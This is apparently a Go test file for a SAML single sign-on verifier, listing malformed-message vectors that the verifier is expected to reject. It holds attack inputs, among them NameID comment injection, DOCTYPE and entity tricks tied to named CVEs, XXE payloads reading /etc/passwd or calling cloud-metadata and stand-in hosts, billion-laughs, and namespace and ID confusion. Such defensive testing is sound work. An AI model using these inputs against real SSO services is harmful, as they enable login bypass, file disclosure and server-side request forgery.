package ssotest

import (
	"bytes"
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/beevik/etree"
)

// edit returns a vector's seal that changes the bytes, of the message or of what is encrypted in it.
func edit(do func([]byte) []byte) func(*SAMLWorld, SAMLMode) Sealing {
	return func(*SAMLWorld, SAMLMode) Sealing { return Sealing{Bytes: do} }
}

// replace returns an edit of the first occurrence of old.
func replace(old, new string) func(*SAMLWorld, SAMLMode) Sealing {
	return edit(func(b []byte) []byte {
		if !bytes.Contains(b, []byte(old)) {
			panic("the message does not contain " + old)
		}
		return bytes.Replace(b, []byte(old), []byte(new), 1)
	})
}

func prepend(s string) func(*SAMLWorld, SAMLMode) Sealing {
	return edit(func(b []byte) []byte { return append([]byte(s), b...) })
}

// change returns a seal that edits the signed assertion.
func change(do func(t testing.TB, assertion *etree.Element)) func(*SAMLWorld, SAMLMode) Sealing {
	return wrap(func(t testing.TB, x wrapped) { do(t, x.assertion) })
}

func utf16Bytes(b []byte) []byte {
	out := []byte{0xFF, 0xFE}
	for _, u := range utf16.Encode([]rune(string(b))) {
		out = binary.LittleEndian.AppendUint16(out, u)
	}
	return out
}

// parserVectors are documents that two programs read differently, and documents that cost more than they are worth.
func parserVectors() []samlVector {
	const name = "taro@example.jp<"
	id := func(attr string) func(*SAMLWorld, SAMLMode) Sealing {
		return change(func(_ testing.TB, a *etree.Element) { a.CreateAttr(attr, "_evil") })
	}
	return append([]samlVector{
		{name: "comment in the NameID (CVE-2017-11427)", want: reasons("saml.xml_comment"), seal: replace(name, "taro@example.jp<!---->.evil.example<")},
		{name: "instruction in the NameID", want: reasons("saml.xml_instruction"), seal: replace(name, "taro@<?x y?>example.jp<")},
		{name: "CDATA in the NameID", want: reasons("saml.xml_cdata"), seal: replace(name, "<![CDATA[taro@example.jp]]><")},
		{name: "comment elsewhere", want: reasons("saml.xml_comment"), seal: replace("<saml:Subject>", "<saml:Subject><!-- x -->")},
		{name: "comment after the root", want: reasons("saml.xml_comment"), seal: edit(func(b []byte) []byte { return append(b, "<!-- x -->"...) })},
		{name: "DOCTYPE (CVE-2025-25291)", want: reasons("saml.xml_doctype"), seal: prepend(`<!DOCTYPE response SYSTEM "x" [<!-- ' --><!ENTITY y "]><!--">]>`)},
		{name: "DOCTYPE with a quoted end (CVE-2025-25292)", want: reasons("saml.xml_doctype"), seal: prepend(`<!DOCTYPE x [<!NOTATION y SYSTEM ']]><!--'>]>`)},
		{name: "entity as ID (CVE-2025-23369)", want: reasons("saml.xml_doctype"), seal: prepend(`<!DOCTYPE x [<!ENTITY id "_assertion-1">]>`)},
		{name: "entity that is not declared", want: reasons("saml.xml_entity"), seal: replace(name, "&taro;<")},
		{name: "XXE by file", want: reasons("saml.xml_doctype"), seal: prepend(`<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>`)},
		{name: "XXE by http", want: reasons("saml.xml_doctype"), seal: prepend(`<!DOCTYPE x [<!ENTITY f SYSTEM "http://169.254.169.254/">]>`)},
		{name: "XXE by parameter entity", want: reasons("saml.xml_doctype"), seal: prepend(`<!DOCTYPE x [<!ENTITY % f SYSTEM "http://forger.example/"> %f;]>`)},
		{name: "billion laughs", want: reasons("saml.xml_doctype"), seal: prepend(`<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>`)},
		{name: "attribute of empty prefix (CVE-2020-29509)", want: reasons("saml.xml_name"), seal: replace("<saml:Subject>", `<saml:Subject :x="y">`)},
		{name: "attribute of two colons (CVE-2020-29509)", want: reasons("saml.xml_name"), seal: replace("<saml:Subject>", `<saml:Subject ::x="y">`)},
		{name: "comment inside a directive (CVE-2020-29510)", want: reasons("saml.xml_doctype"), seal: prepend(`<!x<!-- -->>`)},
		{name: "element of empty prefix (CVE-2020-29511)", want: reasons("saml.xml_name"), seal: replace("<saml:Subject>", `<::x/><saml:Subject>`)},
		{name: "samlp:ID beside ID", want: reasons("saml.attribute_namespace"), seal: replace(`<saml:Assertion `, `<saml:Assertion xmlns:p="`+samlProtocol+`" p:ID="_evil" `)},
		{name: "Id beside ID", want: reasons("saml.id_attribute"), seal: id("Id")},
		{name: "id beside ID", want: reasons("saml.id_attribute"), seal: id("id")},
		{name: "xml:id beside ID", want: reasons("saml.id_attribute"), seal: id("xml:id")},
		{name: "ID twice", want: reasons("saml.xml_attribute_duplicate"), seal: replace(`ID="_assertion-1"`, `ID="_assertion-1" ID="_evil"`)},
		{name: "one attribute by two prefixes", want: reasons("saml.xml_attribute_duplicate"), seal: replace(`<saml:Subject>`, `<saml:Subject xmlns:a="urn:x" xmlns:b="urn:x" a:c="1" b:c="2">`)},
		{name: "InResponseTo with and without a prefix", want: reasons("saml.attribute_namespace"),
			seal: replace(`InResponseTo="_request-1"`, `InResponseTo="_evil" xmlns:p="`+samlProtocol+`" p:InResponseTo="_request-1"`)},
		{name: "prefix bound to another namespace", want: reasons("saml.element_namespace", "saml.encrypted_content"),
			seal: replace(`<saml:Assertion xmlns:saml="`+samlAssertion+`"`, `<saml:Assertion xmlns:saml="urn:evil"`)},
		{name: "prefix rebound inside", want: reasons("saml.signature_digest_mismatch", "saml.assertion_shape"), seal: replace(`<saml:Subject>`, `<saml:Subject xmlns:saml="urn:evil">`)},
		{name: "prefix that is not declared", want: reasons("saml.xml_namespace"), seal: replace("<saml:Subject>", "<saml:Subject><evil:x/>")},
		{name: "prefix undeclared", want: reasons("saml.xml_namespace"), seal: replace("<saml:Subject>", `<saml:Subject xmlns:xs="">`)},
		{name: "xml prefix rebound", want: reasons("saml.xml_namespace"), seal: replace("<saml:Subject>", `<saml:Subject xmlns:xml="urn:evil">`)},
		{name: "xmlns prefix declared", want: reasons("saml.xml_namespace"), seal: replace("<saml:Subject>", `<saml:Subject xmlns:xmlns="urn:evil">`)},
		{name: "foreign assertion", want: reasons("saml.element_namespace"), seal: replace("<saml:Subject>", `<x:Assertion xmlns:x="urn:evil"/><saml:Subject>`)},
		{name: "void canonicalisation by a relative namespace", want: reasons("saml.xml_namespace"), seal: replace("<saml:Subject>", `<saml:Subject xmlns:n="./relative">`)},
		{name: "namespace that is no URI", want: reasons("saml.xml_namespace"), seal: replace("<saml:Subject>", `<saml:Subject xmlns:n="urn:a b">`)},
		{name: "digest of nothing", want: reasons("saml.signature", "saml.signature_digest_mismatch"), seal: wrap(func(_ testing.TB, x wrapped) {
			x.signature.FindElement(".//DigestValue").SetText("47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=")
		})},
		{name: "control character", want: reasons("saml.xml_character"), seal: replace(name, "taro\x01<")},
		{name: "NUL", want: reasons("saml.xml_character"), seal: replace(name, "taro\x00<")},
		{name: "reference to NUL", want: reasons("saml.xml_entity"), seal: replace(name, "taro&#0;<")},
		{name: "noncharacter", want: reasons("saml.xml_character"), seal: replace(name, "taro\uFFFE<")},
		{name: "broken UTF-8", want: reasons("saml.xml_encoding"), seal: replace(name, "taro\xC0\x80<")},
		{name: "UTF-16", want: reasons("saml.xml_encoding"), seal: edit(utf16Bytes)},
		{name: "another encoding declared", want: reasons("saml.xml_encoding"), seal: prepend(`<?xml version="1.0" encoding="Shift_JIS"?>`)},
		{name: "XML 1.1", want: reasons("saml.xml_declaration"), seal: prepend(`<?xml version="1.1"?>`)},
		{name: "declaration not at the start", want: reasons("saml.xml_instruction"), seal: prepend("\n" + `<?xml version="1.0"?>`)},
		{name: "second root", want: reasons("saml.xml_trailing"), seal: edit(func(b []byte) []byte { return append(b, `<x/>`...) })},
		{name: "text after the root", want: reasons("saml.xml_trailing"), seal: edit(func(b []byte) []byte { return append(b, `x`...) })},
		{name: "end tag missing", want: reasons("saml.xml_syntax"), seal: edit(func(b []byte) []byte { return b[:bytes.LastIndexByte(b, '<')] })},
		{name: "end tag of another", want: reasons("saml.xml_syntax"), seal: replace("</saml:Subject>", "</saml:Sub>")},
		{name: "end tag with a longer name", want: reasons("saml.xml_syntax"), seal: replace("</saml:Subject>", "</saml:Subjects>")},
		{name: "< in an attribute", want: reasons("saml.xml_syntax"), seal: replace("_session-1", "<_session-1")},
		{name: "]]> in text", want: reasons("saml.xml_syntax"), seal: replace(name, "taro]]><")},
		{name: "attributes without space", want: reasons("saml.xml_syntax"), seal: replace(`ID="_assertion-1" `, `ID="_assertion-1"`)},
		{name: "empty", want: reasons("saml.xml_syntax"), seal: edit(func([]byte) []byte { return nil })},
		{name: "not XML", want: reasons("saml.xml_syntax"), seal: edit(func([]byte) []byte { return []byte("hello") })},
		{name: "another root", want: reasons("saml.root", "saml.encrypted_content"), seal: edit(func([]byte) []byte { return []byte(`<x/>`) })},
	}, costlyVectors()...)
}

// costlyVectors are the large ones.
func costlyVectors() []samlVector {
	inside := func(s string) func(*SAMLWorld, SAMLMode) Sealing {
		return replace("<saml:Subject>", s+"<saml:Subject>")
	}
	nest := func(n int) string { return strings.Repeat("<x>", n) + strings.Repeat("</x>", n) }
	return []samlVector{
		{name: "1,000 deep", want: reasons("saml.xml_depth"), seal: inside(nest(1000))},
		{name: "20,000 deep", want: reasons("saml.xml_depth"), seal: inside(nest(20_000))},
		{name: "100,000 siblings", want: reasons("saml.xml_nodes"), seal: inside(strings.Repeat("<x/>", 100_000))},
		{name: "40,000 attributes", want: reasons("saml.xml_attributes"), seal: inside("<x" + strings.Repeat(` a="b"`, 40_000) + "/>")},
		{name: "40,000 attributes on many", want: reasons("saml.xml_attributes"), seal: inside(strings.Repeat(`<x a="" b="" c="" d=""/>`, 10_000))},
		{name: "many namespaces", want: reasons("saml.xml_attributes"), seal: inside("<x" + strings.Repeat(` xmlns:a="urn:b"`, 1) + manyPrefixes(300) + "/>")},
		{name: "10 MB of text", want: reasons("saml.xml_size"), seal: inside(strings.Repeat("x", 10<<20))},
		{name: "long name", want: reasons("saml.id_syntax"), knobs: func(_ *SAMLWorld, r *SAMLResponse) { r.Assertions[0].ID = "_" + strings.Repeat("x", 300) }},
	}
}

func manyPrefixes(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(` xmlns:p` + strings.Repeat("x", i) + `="urn:x"`)
	}
	return b.String()
}
